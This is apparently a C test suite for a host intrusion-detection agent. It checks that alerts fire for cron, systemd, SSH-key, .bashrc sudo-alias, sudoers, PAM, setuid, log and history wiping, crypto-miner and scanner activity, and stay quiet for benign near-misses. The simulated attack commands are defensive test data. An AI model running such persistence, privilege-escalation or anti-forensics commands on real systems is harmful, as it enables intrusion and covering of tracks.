		rh_expect_no_alert(&ag, R_PRELOAD, pid);
	} else {
		cr_log_warn("/etc/ld.so.preload exists: its write is not tested");
	}
	/* Near-miss: ldd sets LD_TRACE_LOADED_OBJECTS in the environment. */
	pid = rh_run("ldd /usr/bin/true > /dev/null");
	rh_assert_ok("ldd");
	rh_expect_no_alert(&ag, R_PRELOAD, pid);
	rh_stop(&ag);
	if (made)
		unlink("/etc/ld.so.preload");
}

Test(host, cron_job_written)
{
	char job[64], pkgjob[64], cmd[256];
	const cJSON *al;
	pid_t pid;

	snprintf(job, sizeof(job), "/etc/cron.d/rhtest-%d", (int)getpid());
	snprintf(pkgjob, sizeof(pkgjob), "/etc/cron.d/rhtest-%d-pkg", (int)getpid());
	rh_defer_rm(job);
	rh_defer_rm(pkgjob);
	mkdir("/etc/cron.d", 0755);
	rh_start(&ag, NULL);

	pid = rh_runf("printf '# twinguard rules test (comment only)\\n' > %s", job);
	rh_assert_ok("write cron.d");
	al = rh_expect_alert(&ag, R_CRON, pid);
	rh_expect_alert_shape(al, R_CRON);
	rh_expect_str(al, "file.path", job);
	rh_expect_str(al, "process.executable", "/usr/bin/dash");

	/* Near-misses: reading crontabs; a package installing a cron file. */
	pid = rh_runf("cat %s > /dev/null; ls -l /etc/cron.d > /dev/null", job);
	rh_assert_ok("read cron.d");
	rh_expect_no_alert(&ag, R_CRON, pid);
	snprintf(cmd, sizeof(cmd), "printf \"# pkg\\n\" > %s.dpkg-new && mv %s.dpkg-new %s", pkgjob,
		 pkgjob, pkgjob);
	pid = rh_run_under_dpkg(cmd);
	rh_expect_no_alert(&ag, R_CRON, pid);
	rh_stop(&ag);
}

Test(host, systemd_unit_written)
{
	const char *home = rh_home_dir();
	char unit[96], name[64], user_unit[PATH_MAX], tg_unit[PATH_MAX], wants[160], dis[256];
	const cJSON *al;
	pid_t pid;

	snprintf(name, sizeof(name), "rhtest-%d.service", (int)getpid());
	snprintf(unit, sizeof(unit), "/etc/systemd/system/%s", name);
	snprintf(wants, sizeof(wants), "/etc/systemd/system/multi-user.target.wants/%s", name);
	snprintf(user_unit, sizeof(user_unit), "%s/.config/systemd/user/rh-agent.service", home);
	snprintf(tg_unit, sizeof(tg_unit), "%s/.config/systemd/user/twinguard.service", home);
	rh_defer_rm(unit);
	rh_defer_rm(wants);
	snprintf(dis, sizeof(dis), "systemctl --root=/ disable %s", name);
	rh_defer_sh(dis);
	rh_setup_sh("mkdir -p '%s/.config/systemd/user' /etc/systemd/system", home);
	rh_start(&ag, NULL);

	pid = rh_runf("printf '[Unit]\\nDescription=rh test\\n[Service]\\nExecStart=/bin/true\\n"
		      "[Install]\\nWantedBy=multi-user.target\\n' > %s",
		      unit);
	rh_assert_ok("write unit");
	al = rh_expect_alert(&ag, R_SYSTEMD, pid);
	rh_expect_alert_shape(al, R_SYSTEMD);
	rh_expect_str(al, "file.path", unit);
	pid = rh_runf("cp %s '%s'", unit, user_unit);
	rh_assert_ok("user unit");
	al = rh_expect_alert(&ag, R_SYSTEMD, pid);
	rh_expect_str(al, "file.path", user_unit);
	rh_expect_str(al, "process.executable", "/usr/bin/cp");

	/* Near-misses: systemctl enable (its .wants/ symlink), reading a
	 * unit, twinguard's own unit (the agent pack's). */
	pid = rh_runf("systemctl --root=/ enable %s", name);
	rh_assert_ok("systemctl enable");
	rh_expect_no_alert(&ag, R_SYSTEMD, pid);
	pid = rh_runf("cat %s > /dev/null", unit);
	rh_assert_ok("read unit");
	rh_expect_no_alert(&ag, R_SYSTEMD, pid);
	pid = rh_runf("cp %s '%s'", unit, tg_unit);
	rh_assert_ok("twinguard.service");
	rh_expect_no_alert(&ag, R_SYSTEMD, pid);
	rh_stop(&ag);
}

Test(host, ssh_authorized_keys_modified)
{
	const char *home = rh_home_dir();
	const cJSON *al;
	char keys[PATH_MAX];
	pid_t pid;

	snprintf(keys, sizeof(keys), "%s/.ssh/authorized_keys", home);
	rh_setup_sh("mkdir -m 700 '%s/.ssh' && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample old' > '%s'",
		    home, keys);
	rh_start(&ag, NULL);

	pid = rh_runf("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker rh' >> '%s'", keys);
	rh_assert_ok("append key");
	al = rh_expect_alert(&ag, R_AUTHKEYS, pid);
	rh_expect_alert_shape(al, R_AUTHKEYS);
	rh_expect_str(al, "file.path", keys);
	rh_expect_str(al, "event.action", "open");
	pid = rh_runf("cp '%1$s' '%1$s.new' && mv '%1$s.new' '%1$s2'", keys);
	rh_assert_ok("authorized_keys2");
	al = rh_expect_alert_where(&ag, R_AUTHKEYS, pid, "process.executable", "/usr/bin/mv");
	rh_expect_str(al, "event.action", "rename");

	/* Near-miss: reading it (what sshd does at each login). */
	pid = rh_runf("cat '%s' > /dev/null", keys);
	rh_assert_ok("read keys");
	rh_expect_no_alert(&ag, R_AUTHKEYS, pid);
	rh_stop(&ag);
}

Test(host, shell_profile_modified)
{
	const char *home = rh_home_dir();
	char prof[96], pkgprof[96], cmd[256];
	const cJSON *al;
	pid_t pid;

	snprintf(prof, sizeof(prof), "/etc/profile.d/rhtest-%d.sh", (int)getpid());
	snprintf(pkgprof, sizeof(pkgprof), "/etc/profile.d/rhtest-%d-pkg.sh", (int)getpid());
	rh_defer_rm(prof);
	rh_defer_rm(pkgprof);
	rh_setup_sh("printf '# rh\\n' > '%1$s/.bashrc' && printf 'old\\n' > '%1$s/.bash_history' && "
		    "printf '# rh\\n' > '%2$s/.bashrc' && mkdir -p /etc/profile.d",
		    home, rh_tmpdir());
	rh_start(&ag, NULL);

	pid = rh_runf("echo 'alias sudo=\"/tmp/.x/sudo\"' >> '%s/.bashrc'", home);
	rh_assert_ok("append .bashrc");
	al = rh_expect_alert(&ag, R_PROFILE, pid);
	rh_expect_alert_shape(al, R_PROFILE);
	rh_expect_str(al, "file.name", ".bashrc");
	rh_expect_contains(al, "file.path", home);
	pid = rh_runf("echo '# rh test' > %s", prof);
	rh_assert_ok("profile.d");
	al = rh_expect_alert(&ag, R_PROFILE, pid);
	rh_expect_str(al, "file.path", prof);

	/* Near-misses: history appended, .bashrc read by an interactive bash,
	 * a .bashrc outside /home and /root, a package adding profile.d. */
	pid = rh_runf("echo 'ls -la' >> '%1$s/.bash_history' && cat '%1$s/.bashrc' > /dev/null && "
		      "echo exit | HOME='%1$s' bash -i > /dev/null 2>&1",
		      home);
	rh_assert_ok("history, read");
	rh_expect_no_alert(&ag, R_PROFILE, pid);
	pid = rh_runf("echo '# x' >> '%s/.bashrc'", rh_tmpdir());
	rh_assert_ok("tmp .bashrc");
	rh_expect_no_alert(&ag, R_PROFILE, pid);
	snprintf(cmd, sizeof(cmd), "echo \"# pkg\" > %s", pkgprof);
	pid = rh_run_under_dpkg(cmd);
	rh_expect_no_alert(&ag, R_PROFILE, pid);
	rh_stop(&ag);
}

Test(host, account_creation_or_modification_tool_run)
{
	char user[32], sysuser[32], group[32], pkguser[32], buf[256];
	const cJSON *al;
	pid_t pid;

	lock_accounts();
	snprintf(user, sizeof(user), "rht%d", (int)getpid());
	snprintf(sysuser, sizeof(sysuser), "rhs%d", (int)getpid());
	snprintf(pkguser, sizeof(pkguser), "rhp%d", (int)getpid());
	snprintf(group, sizeof(group), "rhg%d", (int)getpid());
	snprintf(buf, sizeof(buf), "userdel %s; userdel %s; userdel %s; groupdel %s", user, sysuser,
		 pkguser, group);
	rh_defer_sh(buf);
	rh_start(&ag, NULL);

	pid = rh_runf("useradd -M -N -s /usr/sbin/nologin %s", user);
	rh_assert_ok("useradd");
	al = rh_expect_alert(&ag, R_ACCOUNT_TOOL, pid);
	rh_expect_alert_shape(al, R_ACCOUNT_TOOL);
	rh_expect_str(al, "process.name", "useradd");
	rh_expect_str(al, "process.executable", "/usr/sbin/useradd");
	pid = rh_runf("groupadd %s && usermod -a -G %s %s", group, group, user);
	rh_assert_ok("groupadd/usermod");
	rh_expect_alert_where(&ag, R_ACCOUNT_TOOL, pid, "process.name", "groupadd");
	rh_expect_alert_where(&ag, R_ACCOUNT_TOOL, pid, "process.name", "usermod");

	/* adduser (a Perl script: comm adduser) is reported, the useradd it
	 * runs is not (exception run_by_adduser). */
	pid = rh_runf("adduser --system --no-create-home --quiet %s", sysuser);
	rh_assert_ok("adduser");
	al = rh_expect_alert_where(&ag, R_ACCOUNT_TOOL, pid, "process.name", "adduser");
	rh_expect_str(al, "process.executable", "/usr/bin/perl");
	cr_expect_null(rh_alert_where(&ag, R_ACCOUNT_TOOL, pid, "process.name", "useradd"),
		       "useradd run by adduser reported too");

	/* Near-misses: passwd; a maintainer script creating a system user. */
	pid = rh_run("passwd -S root > /dev/null");
	rh_assert_ok("passwd -S");
	rh_expect_no_alert(&ag, R_ACCOUNT_TOOL, pid);
	snprintf(buf, sizeof(buf), "useradd --system -M -s /usr/sbin/nologin %s", pkguser);
	pid = rh_run_under_dpkg(buf);
	rh_expect_no_alert(&ag, R_ACCOUNT_TOOL, pid);
	rh_stop(&ag);
}

Test(host, account_database_modified_directly)
{
	char user[32], buf[160];
	const cJSON *al;
	pid_t pid;

	lock_accounts();
	snprintf(user, sizeof(user), "rhd%d", (int)getpid());
	snprintf(buf, sizeof(buf), "userdel %s", user);
	rh_defer_sh(buf);
	rh_start(&ag, NULL);

	/* echo ... >> /etc/passwd, without adding anything: an O_APPEND open */
	pid = rh_run(": >> /etc/passwd");
	rh_assert_ok("open passwd for append");
	al = rh_expect_alert(&ag, R_ACCOUNT_DB, pid);
	rh_expect_alert_shape(al, R_ACCOUNT_DB);
	rh_expect_str(al, "file.path", "/etc/passwd");
	rh_expect_str(al, "process.executable", "/usr/bin/dash");
	pid = rh_run("/usr/bin/python3 -c 'open(\"/etc/group\", \"a\").close()'");
	rh_assert_ok("open group for append");
	al = rh_expect_alert(&ag, R_ACCOUNT_DB, pid);
	rh_expect_str(al, "file.path", "/etc/group");

	/* Near-misses: useradd/userdel (write /etc/passwd+, rename it over
	 * /etc/passwd), readers, a maintainer script. */
	pid = rh_runf("useradd -M -N -s /usr/sbin/nologin %1$s && usermod -c rh %1$s && userdel %1$s",
		      user);
	rh_assert_ok("useradd/userdel");
	rh_expect_no_alert(&ag, R_ACCOUNT_DB, pid);
	pid = rh_run("cat /etc/passwd /etc/group > /dev/null && getent passwd root > /dev/null && id");
	rh_assert_ok("readers");
	rh_expect_no_alert(&ag, R_ACCOUNT_DB, pid);
	pid = rh_run_under_dpkg(": >> /etc/group");
	rh_expect_no_alert(&ag, R_ACCOUNT_DB, pid);
	rh_stop(&ag);
}

Test(host, sudoers_modified)
{
	char drop[64], pkgdrop[64], cmd[160];
	const cJSON *al;
	pid_t pid;

	if (access("/etc/sudoers.d", F_OK) != 0) {
		/* sudo is not installed: make the directory for the test */
		cr_assert_eq(mkdir("/etc/sudoers.d", 0750), 0, "mkdir /etc/sudoers.d: %s",
			     strerror(errno));
		rh_defer_rm("/etc/sudoers.d");
	}
	snprintf(drop, sizeof(drop), "/etc/sudoers.d/rhtest-%d", (int)getpid());
	snprintf(pkgdrop, sizeof(pkgdrop), "/etc/sudoers.d/rhtest-%d-pkg", (int)getpid());
	rh_defer_rm(drop);
	rh_defer_rm(pkgdrop);
	rh_start(&ag, NULL);

	/* a comment line, which grants nothing */
	pid = rh_runf("echo '# rh ALL=(ALL) NOPASSWD: ALL' > %s && chmod 0440 %s", drop, drop);
	rh_assert_ok("sudoers.d");
	al = rh_expect_alert(&ag, R_SUDOERS, pid);
	rh_expect_alert_shape(al, R_SUDOERS);
	rh_expect_str(al, "file.path", drop);
	rh_expect_str(al, "process.executable", "/usr/bin/dash");

	/* Near-misses: reading it; a package installing a drop-in. (visudo
	 * is only tested where sudo is installed.) */
	pid = rh_runf("cat %s > /dev/null", drop);
	rh_assert_ok("read");
	rh_expect_no_alert(&ag, R_SUDOERS, pid);
	snprintf(cmd, sizeof(cmd), "echo \"# pkg\" > %s", pkgdrop);
	pid = rh_run_under_dpkg(cmd);
	rh_expect_no_alert(&ag, R_SUDOERS, pid);
	if (access("/usr/sbin/visudo", X_OK) == 0) {
		pid = rh_runf("visudo -c -f %s", drop);
		rh_expect_no_alert(&ag, R_SUDOERS, pid);
	}
	rh_stop(&ag);
}

Test(host, pam_configuration_or_module_modified)
{
	char conf[64], pkgconf[64], cmd[160], mod[96], notmod[96];
	const cJSON *al;
	pid_t pid;

	/* modules count in the library dirs (library_dirs) */
	snprintf(mod, sizeof(mod), "/usr/local/lib/pam_rhtest%d.so", (int)getpid());
	snprintf(notmod, sizeof(notmod), "/usr/local/lib/libpam_rhtest%d.so.1", (int)getpid());
	rh_defer_rm(mod);
	rh_defer_rm(notmod);
	mkdir("/usr/local/lib", 0755);
	snprintf(conf, sizeof(conf), "/etc/pam.d/rhtest-%d", (int)getpid());
	snprintf(pkgconf, sizeof(pkgconf), "/etc/pam.d/rhtest-%d-pkg", (int)getpid());
	rh_defer_rm(conf);
	rh_defer_rm(pkgconf);
	rh_start(&ag, NULL);

	/* a PAM service nothing uses */
	pid = rh_runf("echo 'auth optional pam_exec.so /bin/true' > %s", conf);
	rh_assert_ok("pam.d");
	al = rh_expect_alert(&ag, R_PAM, pid);
	rh_expect_alert_shape(al, R_PAM);
	rh_expect_str(al, "file.path", conf);
	pid = rh_runf("cp /usr/bin/true '%s'", mod);
	rh_assert_ok("pam module");
	al = rh_expect_alert(&ag, R_PAM, pid);
	rh_expect_str(al, "file.path", mod);
	rh_expect_str(al, "process.executable", "/usr/bin/cp");

	/* Near-misses: reading PAM files; a library that is not a module; a
	 * package installing a PAM service. */
	pid = rh_run("cat /etc/pam.d/* > /dev/null");
	rh_assert_ok("read pam.d");
	rh_expect_no_alert(&ag, R_PAM, pid);
	pid = rh_runf("cp /usr/bin/true '%s'", notmod);
	rh_assert_ok("libpam");
	rh_expect_no_alert(&ag, R_PAM, pid);
	snprintf(cmd, sizeof(cmd), "echo \"# pkg\" > %s", pkgconf);
	pid = rh_run_under_dpkg(cmd);
	rh_expect_no_alert(&ag, R_PAM, pid);
	rh_stop(&ag);
}

Test(host, setuid_or_setgid_bit_set)
{
	const char *bin = rh_path("rootshell");
	const char *shared = rh_path("shared");
	const char *sticky = rh_path("sticky");
	const char *plain = rh_path("plain");
	const cJSON *al;
	pid_t pid;

	rh_setup_sh("cp /usr/bin/dash '%s' && cp /usr/bin/true '%s' && mkdir '%s' '%s'", bin, plain,
		    shared, sticky);
	rh_start(&ag, NULL);

	pid = rh_runf("chmod 4755 '%s'", bin);
	rh_assert_ok("chmod 4755");
	al = rh_expect_alert(&ag, R_SETUID, pid);
	rh_expect_alert_shape(al, R_SETUID);
	rh_expect_str(al, "file.path", bin);
	rh_expect_str(al, "file.mode", "04755");
	rh_expect_str(al, "event.action", "chmod");
	pid = rh_runf("chmod g+s '%s'", shared);
	rh_assert_ok("chmod g+s");
	al = rh_expect_alert(&ag, R_SETUID, pid);
	rh_expect_str(al, "file.mode", "02755");

	/* Near-misses: ordinary modes, sticky only, 0; dpkg setting setuid. */
	pid = rh_runf("chmod 0644 '%1$s' && chmod 0755 '%1$s' && chmod 0600 '%1$s' && "
		      "chmod 1777 '%2$s' && chmod 0 '%1$s'",
		      plain, sticky);
	rh_assert_ok("plain modes");
	rh_expect_no_alert(&ag, R_SETUID, pid);
	{
		char cmd[PATH_MAX + 32];

		snprintf(cmd, sizeof(cmd), "chmod 4755 %s", plain);
		pid = rh_run_under_dpkg(cmd);
		rh_expect_no_alert(&ag, R_SETUID, pid);
	}
	rh_stop(&ag);
}

Test(host, file_capabilities_set)
{
	const char *bin = rh_path("capped");
	const cJSON *al;
	pid_t pid;

	copy_true(bin);
	rh_start(&ag, NULL);

	pid = rh_runf("setcap cap_setuid+ep '%s'", bin);
	rh_assert_ok("setcap");
	al = rh_expect_alert(&ag, R_SETCAP, pid);
	rh_expect_alert_shape(al, R_SETCAP);
	rh_expect_str(al, "process.name", "setcap");
	rh_expect_contains(al, "process.command_line", "cap_setuid+ep");

	/* Near-misses: verify, remove, getcap. */
	pid = rh_runf("setcap -v cap_setuid+ep '%1$s' && getcap '%1$s' && setcap -r '%1$s'", bin);
	rh_assert_ok("setcap -v/-r, getcap");
	rh_expect_no_alert(&ag, R_SETCAP, pid);
	rh_stop(&ag);
}

/* ====================================================================== */
/* Defence evasion                                                         */
/* ====================================================================== */

/* /var/log/rhtest-PID with some logs, made before the agent starts. */
static const char *var_log_dir(void)
{
	static char dir[64];

	snprintf(dir, sizeof(dir), "/var/log/rhtest-%d", (int)getpid());
	rh_defer_rm(dir);
	rh_setup_sh("mkdir -p %1$s && for f in auth app app2 app3 app4 app5 old; do "
		    "printf 'line 1\\nline 2\\n' > %1$s/$f.log; done",
		    dir);
	return dir;
}

Test(host, log_file_deleted_or_truncated)
{
	const char *dir = var_log_dir();
	char path[128];
	const cJSON *al;
	pid_t pid;

	rh_start(&ag, NULL);
	pid = rh_runf("rm %s/auth.log", dir);
	rh_assert_ok("rm");
	al = rh_expect_alert(&ag, R_LOG, pid);
	rh_expect_alert_shape(al, R_LOG);
	snprintf(path, sizeof(path), "%s/auth.log", dir);
	rh_expect_str(al, "file.path", path);
	rh_expect_str(al, "event.action", "unlink");
	rh_expect_str(al, "process.executable", "/usr/bin/rm");
	pid = rh_runf("truncate -s 0 %s/app.log", dir);
	rh_assert_ok("truncate");
	al = rh_expect_alert(&ag, R_LOG, pid);
	rh_expect_str(al, "event.action", "truncate");
	pid = rh_runf(": > %s/app2.log", dir);
	rh_assert_ok("> file");
	al = rh_expect_alert(&ag, R_LOG, pid);
	rh_expect_str(al, "event.action", "open");

	/* Near-misses: appending (rsyslog), renaming (logrotate's move),
	 * reading, savelog rotating (log_manager_names) twice. */
	pid = rh_runf("echo 'line 3' >> %1$s/app3.log && mv %1$s/app4.log %1$s/app4.log.1 && "
		      "cat %1$s/app3.log > /dev/null",
		      dir);
	rh_assert_ok("append/rename/read");
	rh_expect_no_alert(&ag, R_LOG, pid);
	pid = rh_runf("savelog -q -c 3 %1$s/app5.log && echo more >> %1$s/app5.log && "
		      "savelog -q -c 3 %1$s/app5.log",
		      dir);
	rh_assert_ok("savelog");
	rh_expect_no_alert(&ag, R_LOG, pid);
	rh_stop(&ag);
}

/* logrotate on a temp config: only where logrotate is installed (Debian
 * does not install it by default, packaging/deps.sh does not either). */
Test(host, log_rotation_by_logrotate_is_quiet)
{
	const char *dir;
	const char *conf = rh_path("logrotate.conf");
	pid_t pid;

	if (access("/usr/sbin/logrotate", X_OK) != 0)
		cr_skip_test("logrotate is not installed (apt-get install logrotate)");
	dir = var_log_dir();
	{
		char text[1024];

		snprintf(text, sizeof(text),
			 "%1$s/app.log %1$s/app2.log {\n  rotate 2\n  compress\n  missingok\n}\n"
			 "%1$s/app3.log {\n  copytruncate\n  rotate 1\n}\n",
			 dir);
		rh_file_write(conf, text);
	}
	rh_start(&ag, NULL);
	/* three forced rounds: rename, compress (gzip unlinks), expire, copytruncate */
	pid = rh_runf("for i in 1 2 3; do echo x >> %1$s/app.log; echo x >> %1$s/app2.log; "
		      "logrotate -f -s '%2$s' '%3$s' || exit 1; done",
		      dir, rh_path("logrotate.state"), conf);
	rh_assert_ok("logrotate");
	rh_expect_no_alert(&ag, R_LOG, pid);
	rh_stop(&ag);
}

Test(host, shell_history_cleared)
{
	const char *h1 = rh_home_dir(), *h2 = rh_home_dir();
	const cJSON *al;
	char path[PATH_MAX];
	pid_t pid;

	rh_setup_sh("for h in '%s' '%s'; do for f in .bash_history .zsh_history .sh_history .history; do "
		    "printf 'ls\\nid\\n' > \"$h/$f\"; done; done",
		    h1, h2);
	rh_start(&ag, NULL);

	pid = rh_runf("rm '%s/.bash_history'", h1);
	rh_assert_ok("rm");
	al = rh_expect_alert(&ag, R_HISTORY, pid);
	rh_expect_alert_shape(al, R_HISTORY);
	snprintf(path, sizeof(path), "%s/.bash_history", h1);
	rh_expect_str(al, "file.path", path);
	rh_expect_str(al, "event.action", "unlink");
	pid = rh_runf("ln -sf /dev/null '%s/.zsh_history'", h1);
	rh_assert_ok("ln -sf");
	rh_expect_alert_where(&ag, R_HISTORY, pid, "event.action", "symlink");
	pid = rh_runf("truncate -s 0 '%s/.sh_history'", h1);
	rh_assert_ok("truncate");
	rh_expect_alert_where(&ag, R_HISTORY, pid, "event.action", "truncate");
	pid = rh_runf("cp /dev/null '%s/.history'", h1);
	rh_assert_ok("cp /dev/null");
	al = rh_expect_alert(&ag, R_HISTORY, pid);
	rh_expect_str(al, "process.executable", "/usr/bin/cp");

	/* Near-misses: bash trimming its history at exit (HISTFILESIZE: it
	 * rewrites it through a temp file renamed over it), appending. */
	pid = rh_runf("printf 'echo hi\\n' | HOME='%1$s' HISTFILE='%1$s/.bash_history' HISTFILESIZE=1 "
		      "bash -i > /dev/null 2>&1; echo 'ls' >> '%1$s/.zsh_history'",
		      h2);
	rh_assert_ok("bash history");
	rh_expect_no_alert(&ag, R_HISTORY, pid);
	rh_stop(&ag);
}

Test(host, secure_deletion_of_logs_or_history)
{
	const char *dir = var_log_dir();
	const char *home = rh_home_dir();
	const char *secret = rh_path("secret.txt");
	const cJSON *al;
	pid_t pid;

	rh_setup_sh("printf 'ls\\n' > '%s/.bash_history' && echo s3cret > '%s'", home, secret);
	rh_start(&ag, NULL);

	pid = rh_runf("shred -u %s/auth.log", dir);
	rh_assert_ok("shred log");
	al = rh_expect_alert(&ag, R_SHRED, pid);
	rh_expect_alert_shape(al, R_SHRED);
	rh_expect_str(al, "process.name", "shred");
	rh_expect_contains(al, "process.command_line", "/auth.log");
	pid = rh_runf("cd %s && shred old.log", dir);
	rh_assert_ok("shred in /var/log");
	al = rh_expect_alert(&ag, R_SHRED, pid);
	rh_expect_str(al, "process.working_directory", dir);
	pid = rh_runf("shred -zu '%s/.bash_history'", home);
	rh_assert_ok("shred history");
	rh_expect_alert(&ag, R_SHRED, pid);

	/* Near-miss: shredding an ordinary secret. */
	pid = rh_runf("shred -u '%s'", secret);
	rh_assert_ok("shred secret");
	rh_expect_no_alert(&ag, R_SHRED, pid);
	rh_stop(&ag);
}

/* ====================================================================== */
/* Impact and discovery                                                    */
/* ====================================================================== */

Test(host, crypto_miner_executed)
{
	const char *xmrig = rh_tool("xmrig");
	const char *renamed = rh_tool("kworker-helper");
	const cJSON *al;
	pid_t pid;

	rh_netns_up(ns_ports);
	rh_start(&ag, NULL);

	pid = rh_runf("'%s' -o stratum+tcp://" NS_PEER ":3333 -u 4AdUndXHHZ9pfQj27 -p x --donate-level 1",
		      xmrig);
	rh_assert_ok("xmrig");
	al = rh_expect_alert_where(&ag, R_MINER, pid, "process.executable", xmrig);
	rh_expect_alert_shape(al, R_MINER);
	rh_expect_str(al, "process.name", "xmrig");
	/* its pool connection, seen by the port rule */
	al = rh_expect_alert(&ag, R_POOL, pid);
	rh_expect_str(al, "destination.ip", NS_PEER);
	rh_expect_num(al, "destination.port", POOL_PORT);

	/* renamed: the pool URL on the command line gives it away */
	pid = rh_runf("'%s' -o stratum+tcp://" NS_PEER ":3333 -u wallet", renamed);
	rh_assert_ok("renamed miner");
	al = rh_expect_alert_where(&ag, R_MINER, pid, "process.executable", renamed);
	rh_expect_contains(al, "process.command_line", "stratum+tcp://");

	/* Near-misses: ordinary programs, also ones naming "stratum". */
	pid = rh_run("curl -fsS -o /dev/null http://" NS_PEER ":8080/ && grep -c stratum /etc/hostname; "
		     "echo 'see docs: stratum protocol' > /dev/null");
	rh_expect_no_alert(&ag, R_MINER, pid);
	rh_stop(&ag);
}

Test(host, connection_to_mining_pool_port)
{
	const char *upd = rh_tool("updater");
	const cJSON *al;
	pid_t pid;

	rh_netns_up(ns_ports);
	rh_start(&ag, NULL);

	pid = rh_runf("'%s' --connect " NS_PEER " 3333", upd);
	rh_assert_ok("connect 3333");
	al = rh_expect_alert(&ag, R_POOL, pid);
	rh_expect_alert_shape(al, R_POOL);
	rh_expect_str(al, "process.executable", upd);
	rh_expect_str(al, "destination.ip", NS_PEER);
	rh_expect_num(al, "destination.port", POOL_PORT);

	/* Near-misses: a local dev server on 127.0.0.1:5555; other ports. */
	pid = rh_runf(LO_LISTENER "'%2$s' --connect 127.0.0.1 %1$d; wait", 5555, upd);
	rh_expect_no_alert(&ag, R_POOL, pid);
	pid = rh_runf("'%s' --connect " NS_PEER " 8080 && '%s' --connect " NS_PEER " 443", upd, upd);
	rh_assert_ok("other ports");
	rh_expect_no_alert(&ag, R_POOL, pid);
	rh_stop(&ag);
}

Test(host, network_scanner_executed)
{
	const char *nmap = rh_tool("nmap");
	const char *nc = rh_tool("nc");
	const cJSON *al;
	pid_t pid;

	rh_netns_up(ns_ports);
	rh_start(&ag, NULL);

	pid = rh_runf("'%s' --scan " NS_PEER " 20 30", nmap);
	rh_assert_ok("nmap");
	al = rh_expect_alert(&ag, R_SCANNER, pid);
	rh_expect_alert_shape(al, R_SCANNER);
	rh_expect_str(al, "process.name", "nmap");
	rh_expect_str(al, "process.executable", nmap);

	/* Near-misses: ss, nc -z. */
	pid = rh_runf("ss -tan > /dev/null && '%s' -z " NS_PEER " 9001", nc);
	rh_assert_ok("ss, nc -z");
	rh_expect_no_alert(&ag, R_SCANNER, pid);
	rh_stop(&ag);
}

Test(host, connection_failure_burst)
{
	const char *scan = rh_tool("probe");
	const cJSON *al;
	char *out;
	pid_t pid;

	rh_netns_up(ns_ports);
	rh_start(&ag, NULL);

	/* 250 refused connects (closed ports of the lab host) */
	pid = rh_runf("'%s' --scan " NS_PEER " 10001 10250", scan);
	rh_assert_ok("scan");
	out = rh_last_output();
	cr_expect_not_null(strstr(out, "refused=250 "), "scan: %s", out);
	free(out);
	al = rh_expect_alert(&ag, R_CONN_BURST, pid);
	rh_expect_alert_shape(al, R_CONN_BURST);
	rh_expect_str(al, "process.executable", scan);
	rh_expect_str(al, "twinguard.alert.kind", "threshold");
	rh_expect_str(al, "destination.ip", NS_PEER);
	if (al) {
		double count = 0;

		cr_expect(rh_jnum(al, "twinguard.alert.details.count", &count) && count > 200,
			  "details.count %g", count);
	}

	/* Near-misses: exactly 200 refusals (the limit is "more than");
	 * 250 non-blocking connects (EINPROGRESS) to a listening port. */
	pid = rh_runf("'%s' --scan " NS_PEER " 20001 20200", scan);
	rh_assert_ok("200");
	out = rh_last_output();
	cr_expect_not_null(strstr(out, "refused=200 "), "scan: %s", out);
	free(out);
	rh_expect_no_alert(&ag, R_CONN_BURST, pid);
	pid = rh_runf("'%s' --nbconnect " NS_PEER " 9001 250", scan);
	rh_assert_ok("nonblocking");
	out = rh_last_output();
	cr_expect_not_null(strstr(out, "inprogress=250 "), "nbconnect: %s", out);
	free(out);
	rh_expect_no_alert(&ag, R_CONN_BURST, pid);
	rh_stop(&ag);
}

/* A twin service (the profile names the lab tool copied as twin-engine). */
static void start_twin_agent(const char *engine, const char *egress)
{
	char profile[PATH_MAX + 256];

	snprintf(profile, sizeof(profile), "{\"name\": \"rh-twin\", \"services\": [\"%s\"]%s%s%s}",
		 engine, egress ? ", \"egress_networks\": [" : "", egress ? egress : "",
		 egress ? "]" : "");
	rh_start(&ag, profile);
}

Test(host, twin_service_egress_to_unusual_port)
{
	const char *engine = rh_tool("twin-engine");
	const char *other = rh_tool("rh-other");
	const cJSON *al;
	pid_t pid;

	rh_netns_up(ns_ports);
	start_twin_agent(engine, NULL);

	pid = rh_runf("'%s' --connect " NS_PEER " 6667", engine);
	rh_assert_ok("engine -> 6667");
	al = rh_expect_alert(&ag, R_TWIN_EGRESS, pid);
	rh_expect_alert_shape(al, R_TWIN_EGRESS);
	rh_expect_str(al, "process.executable", engine);
	rh_expect_str(al, "destination.ip", NS_PEER);
	rh_expect_num(al, "destination.port", IRC_PORT);
	rh_expect_contains(al, "message", "twin=rh-twin"); /* twin.* are not in the JSON */
	/* a child of the service calling out */
	pid = rh_runf("'%s' --spawn /usr/bin/curl -s -m 5 -o /dev/null http://" NS_PEER ":6667/", engine);
	al = rh_expect_alert(&ag, R_TWIN_EGRESS, pid);
	rh_expect_str(al, "process.executable", "/usr/bin/curl");
	rh_expect_str(al, "process.parent.executable", engine);

	/* Near-misses: 443, a twin data port (1883), loopback, another program. */
	pid = rh_runf("'%1$s' --connect " NS_PEER " 443 && '%1$s' --connect " NS_PEER " 1883", engine);
	rh_assert_ok("443, 1883");
	rh_expect_no_alert(&ag, R_TWIN_EGRESS, pid);
	pid = rh_runf(LO_LISTENER "'%2$s' --connect 127.0.0.1 %1$d; wait", rh_lo_port(3), engine);
	rh_expect_no_alert(&ag, R_TWIN_EGRESS, pid);
	pid = rh_runf("'%s' --connect " NS_PEER " 6667", other);
	rh_assert_ok("other -> 6667");
	rh_expect_no_alert(&ag, R_TWIN_EGRESS, pid);
	rh_stop(&ag);
}

/* Near-miss: the destination in the profile's egress_networks. */
Test(host, twin_service_egress_allowlisted)
{
	const char *engine = rh_tool("twin-engine");
	pid_t pid;

	rh_netns_up(ns_ports);
	start_twin_agent(engine, "\"127.0.0.0/8\", \"198.51.100.0/24\"");
	pid = rh_runf("'%s' --connect " NS_PEER " 6667", engine);
	rh_assert_ok("engine -> 6667");
	rh_expect_no_alert(&ag, R_TWIN_EGRESS, pid);
	rh_stop(&ag);
}
